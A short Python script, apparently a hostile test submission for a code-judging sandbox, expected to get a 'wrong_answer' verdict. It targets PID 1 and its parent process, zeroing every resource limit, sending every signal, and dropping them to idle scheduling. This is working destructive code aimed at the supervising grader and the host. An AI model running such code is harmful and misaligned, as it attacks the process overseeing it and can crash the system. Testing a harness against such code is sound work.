# It sends every signal to the processes above it, and takes away their files, memory, time and priority.
#
# verdict = "wrong_answer"

import os, resource, signal

for pid in {1, os.getppid()}:
    for limit in range(16):
        try:
            resource.prlimit(pid, limit, (0, 0))
        except (OSError, ValueError):
            pass
    for number in signal.valid_signals():
        try:
            os.kill(pid, number)
        except OSError:
            pass
    for act in (
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, [0]),
    ):
        try:
            act()
        except OSError:
            pass
print("nothing")
